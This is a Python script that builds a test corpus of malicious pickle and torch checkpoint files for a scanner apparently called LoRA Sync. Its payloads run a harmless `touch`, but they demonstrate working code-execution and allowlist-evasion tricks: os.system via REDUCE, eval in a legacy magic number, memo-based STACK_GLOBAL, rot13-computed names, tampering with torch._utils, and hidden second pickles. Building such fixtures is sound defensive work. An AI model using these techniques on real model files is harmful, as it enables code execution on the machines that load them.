"""Writes the hostile-pickle corpus of issue 17 (test/faults/unsafe.faults.test.ts).
Usage: make_unsafe_pickles.py OUTDIR MARKER

Every payload, if ever executed, creates the file MARKER.<id> (a harmless `touch`). The suite checks
that LoRA Sync runs none of them and reports each file UNSAFE with the name it expects, then proves
each one live with real torch.load (or, for a second pickle after STOP, with a loader that reads
pickles to the end of data.pkl). Bytes are Python's own pickle output where it writes the opcodes we
want, and pickletools-level opcodes otherwise.

Layout of OUTDIR: a workspace with one clean LoRA (source LoRA_Good.pt) whose copies are the
hostile files; manifest.json lists each: id, file, class, what LoRA Sync must name, how to prove it.
"""
import io
import json
import os
import pickle
import pickletools
import struct
import sys
import zipfile

import torch

out, marker = sys.argv[1], sys.argv[2]
SRC = os.path.join(out, "\u2b50_AKTIF_EN_IYILER")
CPY = os.path.join(out, "Galatasaray", "\U0001f3af_WIN_EXPERTS")
os.makedirs(SRC, exist_ok=True)
os.makedirs(CPY, exist_ok=True)
made = []


def cmd(fid):
    return "touch '%s.%s'" % (marker, fid)


class System:  # pickled by Python as posix.system (GLOBAL, or STACK_GLOBAL from protocol 4)
    def __init__(self, fid):
        self.fid = fid

    def __reduce__(self):
        return (os.system, (cmd(self.fid),))


def strip_stop(b):
    """The pickle without its STOP; a protocol 4+ FRAME is shortened to match (else Python refuses the
    frame before running anything)."""
    assert b.endswith(b".")
    if b[2:3] == b"\x95":
        b = b[:3] + struct.pack("<Q", struct.unpack("<Q", b[3:11])[0] - 1) + b[11:]
    return b[:-1]


def u(s):  # SHORT_BINUNICODE / BINUNICODE
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def lora(seed, match):
    g = torch.Generator().manual_seed(seed)
    params = {"layers.%d.lora_%s" % (l, ab): torch.randn(4, 8, generator=g) for l in range(2) for ab in "AB"}
    return {"lora_params": params, "metadata": {"id": "lora_good", "name": "LoRA_Good", "fitness_history": [0.1],
                                                "sync_info": {"last_sync_match": match}}}


def add(fid, cls, data, expect, prove="torch", name=None, note=""):
    # A copy's name: LoRA_Good_<6 hex> (the seed's naming), so each joins the clean LoRA.
    path = os.path.join(CPY, "LoRA_Good_%06x.%s" % (0xE00000 + len(made), "bin" if name == "bin" else "pt"))
    with open(path, "wb") as f:
        f.write(data)
    made.append({"id": fid, "class": cls, "file": os.path.relpath(path, out), "expect": expect, "prove": prove, "note": note})


# The clean source, and the genuine pieces the zip and legacy variants are cut from.
torch.save(lora(1, 50), os.path.join(SRC, "LoRA_Good.pt"))
base = os.path.join(out, "base.pt")
torch.save(lora(2, 45), base)
with zipfile.ZipFile(base) as z:
    records = [(i.filename, z.read(i.filename)) for i in z.infolist()]
os.remove(base)
prefix = records[0][0].split("/")[0]
genuine_pkl = dict(records)["%s/data.pkl" % prefix]


def zipped(data_pkl):
    """The genuine checkpoint with its data.pkl replaced (Python's zipfile: torch 1.13 reads it)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for n, b in records:
            z.writestr(n, data_pkl if n.endswith("/data.pkl") else b)
    return buf.getvalue()


leg = io.BytesIO()
torch.save(lora(3, 45), leg, _use_new_zipfile_serialization=False)
leg = leg.getvalue()


f = io.BytesIO(leg)
cuts = [0]
for _ in range(5):
    for _op in pickletools.genops(f):  # walks one pickle to its STOP, executing nothing
        pass
    cuts.append(f.tell())
legacy_pickles = [leg[cuts[i]:cuts[i + 1]] for i in range(5)]
legacy_storages = leg[cuts[5]:]

# ---- 1. plain pickles named .pt / .bin: torch's legacy path unpickles them before the magic check ----
for p in range(6):
    fid = "plain_p%d" % p
    add(fid, "plain pickle", pickle.dumps(System(fid), protocol=p), "posix.system", note="protocol %d" % p)
for p in (2, 4):
    fid = "plain_bin_p%d" % p
    add(fid, "plain pickle", pickle.dumps(System(fid), protocol=p), "posix.system", name="bin")
# the magic number computed by eval: torch checks it, finds it right, and loads the rest
fid = "legacy_eval_magic"
magic = b"\x80\x02cbuiltins\neval\n" + u("__import__('os').system(%r) or 0x1950a86a20f9469cfc6c" % cmd(fid)) + b"\x85R."
add(fid, "plain pickle", magic + b"".join(legacy_pickles[1:]) + legacy_storages, "builtins.eval",
    note="loads as a legacy checkpoint after the payload")
# a legacy file whose system-info pickle, or storage-key pickle, carries the payload
for i, what in ((2, "sysinfo"), (4, "keys")):
    fid = "legacy_payload_in_%s" % what
    parts = list(legacy_pickles)
    parts[i] = pickle.dumps(System(fid), protocol=2)
    add(fid, "legacy pickles", b"".join(parts) + legacy_storages, "posix.system", note="pickle %d of 5" % (i + 1))

# ---- opcode variants: STACK_GLOBAL through the memo, INST, OBJ, NEWOBJ, names computed by a call ----
def reduce_cmd(fid):
    return u(cmd(fid)) + b"\x85R."


sg = {
    "memoize": u("posix") + b"\x94" + u("system") + b"\x94" + b"00" + b"h\x00h\x01",
    "put_get": u("posix") + b"p7\n" + u("system") + b"p8\n" + b"00" + b"g7\ng8\n",
    "binput_binget": u("posix") + b"q\x05" + u("system") + b"q\x06" + b"00" + b"h\x05h\x06",
    "long_binput_binget": u("posix") + b"r\x00\x01\x00\x00" + u("system") + b"r\x01\x01\x00\x00" + b"00"
                          + b"j\x00\x01\x00\x00j\x01\x01\x00\x00",
}
for k, ops in sg.items():
    fid = "stack_global_" + k
    add(fid, "opcodes", b"\x80\x04" + ops + b"\x93" + reduce_cmd(fid), "posix.system", note="operands via the memo")
fid = "inst"
add(fid, "opcodes", b"(V%s\nios\nsystem\n." % cmd(fid).encode(), "os.system", note="protocol 0 INST")
fid = "obj"
add(fid, "opcodes", b"(cos\nsystem\n" + u(cmd(fid)) + b"o.", "os.system", note="protocol 1 OBJ")
fid = "newobj"
add(fid, "opcodes", b"\x80\x02cfunctools\npartial\ncos\nsystem\n" + u(cmd(fid)) + b"\x86\x81)R.", "functools.partial",
    note="NEWOBJ builds functools.partial(os.system, cmd), REDUCE calls it")
fid = "computed_names"  # only _codecs.encode (allowlisted) is named; rot13 computes 'posix' and 'system'
enc = lambda s: u("_codecs") + u("encode") + b"\x93" + u(s) + u("rot13") + b"\x86R"
add(fid, "opcodes", b"\x80\x04" + enc("cbfvk") + enc("flfgrz") + b"\x93" + reduce_cmd(fid), "unresolved STACK_GLOBAL",
    note="STACK_GLOBAL of names computed by an allowlisted call")

# ---- 2. the payload runs, then the stream breaks ----
for p in range(6):
    fid = "broken_memo_p%d" % p
    get = b"g99\n" if p == 0 else b"h\x63"
    add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=p)) + get + b".", "posix.system",
        note="protocol %d, a memo key never stored" % p)
fid = "broken_long_binget"
add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=2)) + b"j\x10\x27\x00\x00.", "posix.system")
fid = "broken_stack_left"
add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=2)) + b"N.", "posix.system",
    note="the payload's result left under the root at STOP")
fid = "broken_truncated_binunicode"
add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=3)) + b"X\xe8\x03\x00\x00abc",
    "posix.system")
fid = "broken_truncated_short"
add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=4)) + b"\x8c\x40abc", "posix.system")
fid = "broken_truncated_string"
add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=0)) + b"S'abc", "posix.system")
fid = "broken_no_stop"
add(fid, "payload then broken", strip_stop(pickle.dumps(System(fid), protocol=5)), "posix.system")

# ---- 4. namespace tampering: BUILD on a module, then a STACK_GLOBAL of the name it replaced ----
def tamper(fid, via_memo):
    module = b"ctorch\n_utils\n" + (b"q\x00" + b"0" + b"h\x00" if via_memo else b"")
    state = b"}" + u("_rebuild_tensor_v2") + b"cbuiltins\neval\n" + b"s"
    use = u("torch._utils") + u("_rebuild_tensor_v2") + b"\x93" + u("__import__('os').system(%r)" % cmd(fid)) + b"\x85R"
    return b"\x80\x04" + module + state + b"b0" + use + b"."


add("tamper_build_module", "namespace tampering", tamper("tamper_build_module", False), "BUILD on torch._utils",
    prove="torch-alone")
add("tamper_build_memo", "namespace tampering", tamper("tamper_build_memo", True), "BUILD on torch._utils",
    prove="torch-alone", note="the module reached through the memo")

# ---- the same in a zip checkpoint's data.pkl ----
body = genuine_pkl[2:]  # without PROTO 2
fid = "zip_stack_left"
add(fid, "zip data.pkl", zipped(b"\x80\x02" + strip_stop(pickle.dumps(System(fid), protocol=2))[2:] + body),
    "posix.system", note="payload below the genuine object: torch.load returns the LoRA")
for what, tail in (("memo", b"h\x63."), ("truncated", b"X\xe8\x03\x00\x00abc")):
    fid = "zip_broken_" + what
    add(fid, "zip data.pkl", zipped(strip_stop(pickle.dumps(System(fid), protocol=2)) + tail), "posix.system")
fid = "zip_second_pickle"
add(fid, "second pickle", zipped(genuine_pkl + pickle.dumps(System(fid), protocol=2)), "posix.system",
    prove="read-to-end", note="torch.load reads one pickle; loaders that read to the end run the second")
fid = "zip_tamper"
add(fid, "namespace tampering", zipped(tamper(fid, False)), "BUILD on torch._utils", prove="torch-alone")
fid = "zip_computed_names"
add(fid, "zip data.pkl", zipped(b"\x80\x04" + enc("cbfvk") + enc("flfgrz") + b"\x93" + reduce_cmd(fid)),
    "unresolved STACK_GLOBAL")
fid = "zip_inst"
add(fid, "zip data.pkl", zipped(b"(V%s\nios\nsystem\n." % cmd(fid).encode()), "os.system")
# ---- not payloads: a benign plain pickle, and trailing bytes that hold no pickle ----
benign = {"benign": os.path.relpath(os.path.join(CPY, "LoRA_Good_be9199.pt"), out),
          "trailing_zip": os.path.relpath(os.path.join(CPY, "LoRA_Good_7a11e0.pt"), out),
          "trailing_legacy": os.path.relpath(os.path.join(CPY, "LoRA_Good_7a11e1.pt"), out)}
with open(os.path.join(out, benign["benign"]), "wb") as fh:
    fh.write(pickle.dumps({"notes": ["a", 1, 2.5], "when": (2025, 12, 4)}, protocol=2))
with open(os.path.join(out, benign["trailing_zip"]), "wb") as fh:
    fh.write(zipped(genuine_pkl + b"\x00" * 7))
with open(os.path.join(out, benign["trailing_legacy"]), "wb") as fh:
    fh.write(leg + b"\x00" * 5)
print(json.dumps({"fixtures": made, "benign": benign}))
